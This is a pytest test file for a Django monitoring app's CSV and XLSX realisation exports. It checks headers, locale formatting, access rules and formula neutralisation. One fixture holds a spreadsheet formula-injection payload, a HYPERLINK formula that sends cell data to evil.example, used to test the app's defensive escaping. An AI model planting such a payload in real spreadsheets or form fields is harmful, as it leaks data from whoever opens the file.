"""The office's CSV and XLSX exports of a programme year's realisations."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from monitoring.models import MonitorReport
from regions.models import RegionRole
from regions.tests.factories import (
    IndicatorFactory,
    ProgrammeFactory,
    ProgrammeYearFactory,
    RegionFactory,
    RegionRoleFactory,
    TargetFactory,
    UserFactory,
)
from regions.tests.world import world_build
from toptechniek.common.exports import neutralise
from toptechniek.common.testing import queries_in, queries_of

from .factories import MonitorReportFactory, RealisationFactory

pytestmark = pytest.mark.django_db

HEADERS = [
    "Region",
    "Landsdeel",
    "Indicator code",
    "Indicator",
    "Performance area",
    "Route",
    "Unit",
    "Baseline",
    "Baseline year",
    "Target 2013",
    "Realisation 2013",
    "Nothing to report",
    "Explanation",
    "Report status",
    "Late",
]
S_LABELS = dict(MonitorReport.Status.choices)
INJECTION = '=HYPERLINK("https://evil.example/?"&A1,"klik")'


def add_report(w, region):
    """A submitted 2013 report of the region with two indicators (targets 2012 and 2013) and their figures."""
    report = MonitorReportFactory(region=region, programme_year=w.year, status=MonitorReport.Status.SUBMITTED)
    for code, value in (("A1", Decimal("120")), ("A2", Decimal("12.5"))):
        indicator = IndicatorFactory(region=region, code=code, name=f"Indicator {code} {region.name}")
        TargetFactory(indicator=indicator, year=2013, value=Decimal("100"))
        TargetFactory(indicator=indicator, year=2012, value=Decimal("90"))
        RealisationFactory(report=report, indicator=indicator, value=value)
    return report


def add_region(w, name: str, slug: str, landsdeel: str = "noord"):
    region = RegionFactory(programme=w.programme, name=name, slug=slug, landsdeel=landsdeel)
    return region, add_report(w, region)


@pytest.fixture
def world():
    w = world_build(programme={"slug": "ttib", "name": "Toptechniek in bedrijf"}, regions=("friesland",), viewer=False)
    w.year = w.years[2013]
    w.region = w.regions["friesland"]
    w.report = add_report(w, w.region)
    indicator = IndicatorFactory(
        region=w.region, code="B1", name='Bedrijven; "partners"\nnieuw', unit="=1+1", baseline_value=Decimal("7.25")
    )
    TargetFactory(indicator=indicator, year=2013, value=Decimal("10"))
    RealisationFactory(report=w.report, indicator=indicator, value=None, not_applicable=True, explanation=INJECTION)
    w.late = MonitorReport.objects.filter(pk=w.report.pk)
    w.late.update(is_late=True, first_submitted_at=datetime.datetime(2014, 4, 1, tzinfo=datetime.UTC))
    # Another programme's realisations stay out.
    other = ProgrammeYearFactory(programme=ProgrammeFactory(slug="other"), year=2013)
    other_region = RegionFactory(programme=other.programme, name="Elders")
    RealisationFactory(
        report=MonitorReportFactory(region=other_region, programme_year=other),
        indicator=IndicatorFactory(region=other_region, code="X1"),
    )
    return w


def csv_url(slug="ttib", year=2013):
    return reverse("monitoring:realisations_csv", kwargs={"slug": slug, "year": year})


def xlsx_url(slug="ttib", year=2013):
    return reverse("monitoring:realisations_xlsx", kwargs={"slug": slug, "year": year})


def read_csv(response) -> list[list[str]]:
    content = response.content
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_realisations_csv_has_one_row_per_realisation(client, world):
    client.force_login(world.office)

    response = client.get(csv_url())

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="realisations-ttib-2013.csv"'
    rows = read_csv(response)
    assert rows[0] == HEADERS
    assert [r[2] for r in rows[1:]] == ["A1", "A2", "B1"]
    assert rows[1] == [
        "Friesland",
        "Noord",  # the programme's landsdeel and route, by name
        "A1",
        "Indicator A1 Friesland",
        "In-, door- en uitstroom",
        "Vakmanschapsroute",
        "students",
        "100",
        "2011",
        "100",
        "120",
        "No",
        "",
        "submitted",
        "Yes",
    ]
    assert rows[2][10] == "12.5"


@pytest.mark.parametrize("status", ["draft", "awaiting_endorsement", "returned"])
def test_realisations_csv_shows_an_unsettled_report_without_its_figures(client, world, status):
    """Only figures of reports submitted to the office or accepted count; the status column still shows."""
    region, report = add_region(world, "Drenthe", "drenthe")
    MonitorReport.objects.filter(pk=report.pk).update(status=status)
    client.force_login(world.office)

    rows = [r for r in read_csv(client.get(csv_url())) if r[0] == "Drenthe"]

    assert [r[2] for r in rows] == ["A1", "A2"]
    assert {(r[9], r[10], r[11], r[12], r[13]) for r in rows} == {("100", "", "", "", str(S_LABELS[status]))}


def test_realisations_csv_keeps_delimiters_quotes_and_newlines_in_their_cell(client, world):
    client.force_login(world.office)

    b1 = read_csv(client.get(csv_url()))[3]

    assert len(b1) == len(HEADERS)
    assert b1[3] == 'Bedrijven; "partners"\nnieuw'
    assert b1[7] == "7.25"
    assert b1[10] == ""  # nothing to report: no value
    assert b1[11] == "Yes"


def test_realisations_csv_neutralises_formulas(client, world):
    client.force_login(world.office)

    b1 = read_csv(client.get(csv_url()))[3]

    assert b1[12] == "'" + INJECTION
    assert b1[6] == "'=1+1"


def test_realisations_csv_in_dutch_uses_decimal_commas_and_ja_nee(client, world):
    client.force_login(world.office)

    response = client.get(csv_url(), HTTP_ACCEPT_LANGUAGE="nl")

    rows = read_csv(response)
    assert rows[2][10] == "12,5"
    assert rows[3][7] == "7,25"
    assert rows[3][11] == "Ja" and rows[1][11] == "Nee"


@pytest.mark.parametrize("text", ["=1+1", "+31 6", "-5", "@SUM(A1)", "\tx", "\rx"])
def test_neutralise_prefixes_formula_starts(text):
    assert neutralise(text) == "'" + text


def test_neutralise_leaves_ordinary_text():
    assert neutralise("Instroom 3=3") == "Instroom 3=3"


def test_realisations_xlsx_has_typed_cells_and_a_frozen_bold_header(client, world):
    client.force_login(world.office)

    response = client.get(xlsx_url())

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="realisations-ttib-2013.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert rows[1][:4] == ("Friesland", "Noord", "A1", "Indicator A1 Friesland")
    assert rows[1][7:12] == (100, 2011, 100, 120, "No")
    assert rows[2][10] == 12.5
    assert isinstance(rows[2][10], float)
    assert rows[3][10] is None and rows[3][11] == "Yes"
    assert rows[3][3] == 'Bedrijven; "partners"\nnieuw'


def test_realisations_xlsx_stores_formulas_as_text(client, world):
    client.force_login(world.office)

    sheet = load_workbook(io.BytesIO(client.get(xlsx_url()).content)).active

    explanation, unit = sheet["M4"], sheet["G4"]
    assert explanation.value == INJECTION and explanation.data_type == "s"
    assert unit.value == "=1+1" and unit.data_type == "s"
    assert explanation.quotePrefix and unit.quotePrefix


@pytest.mark.parametrize("url", [csv_url, xlsx_url])
def test_realisation_export_query_count_does_not_grow_with_regions(client, world, url):
    client.force_login(world.office)
    client.get(url())  # warm the session and permission caches
    one_region = queries_of(client, url())
    add_region(world, "Groningen", "groningen")
    add_region(world, "Zeeland", "zeeland", landsdeel="zuid")

    with queries_in() as three_regions:
        response = client.get(url())

    assert response.status_code == 200
    assert len(three_regions) == one_region == 6  # session, user, programme, year, the rows, the audit entry
    if url is csv_url:
        assert len(read_csv(response)) == 1 + 3 + 2 + 2


@pytest.mark.parametrize("url", [csv_url, xlsx_url])
@pytest.mark.parametrize("role", ["viewer", "project_leader"])
def test_realisation_export_is_404_for_everyone_but_the_office(client, world, url, role):
    if role == "viewer":
        user = UserFactory(email="viewer@t.example", viewer=True)
    else:
        user = UserFactory(email="pl@t.example")
        RegionRoleFactory(user=user, region=world.region, role=RegionRole.Role.PROJECT_LEADER)
    client.force_login(user)

    assert client.get(url()).status_code == 404


@pytest.mark.parametrize("url", [csv_url, xlsx_url])
def test_realisation_export_is_404_for_an_unknown_programme_or_year(client, world, url):
    client.force_login(world.office)

    assert client.get(url(slug="nope")).status_code == 404
    assert client.get(url(year=2014)).status_code == 404


def test_realisation_export_refuses_post(client, world):
    client.force_login(world.office)

    assert client.post(csv_url()).status_code == 405


def test_programme_page_links_exports_per_year_for_the_office_only(client, world):
    viewer = UserFactory(email="viewer@t.example", viewer=True)
    page = world.programme.get_absolute_url()

    client.force_login(world.office)
    office_html = client.get(page).content.decode()
    client.force_login(viewer)
    viewer_html = client.get(page).content.decode()

    assert f'href="{csv_url()}"' in office_html and f'href="{xlsx_url()}"' in office_html
    assert csv_url() not in viewer_html
